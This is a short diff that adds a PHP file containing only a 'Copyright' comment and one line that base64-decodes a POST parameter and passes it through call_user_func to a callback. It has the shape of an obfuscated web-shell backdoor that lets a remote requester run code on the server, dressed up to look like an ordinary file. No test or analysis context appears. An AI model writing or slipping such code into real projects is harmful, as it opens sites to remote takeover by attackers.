@@ -1,0 +1,3 @@
+<?php
+// Copyright
+echo call_user_func($cb, base64_decode($_POST["x"]) . "a" . "b");
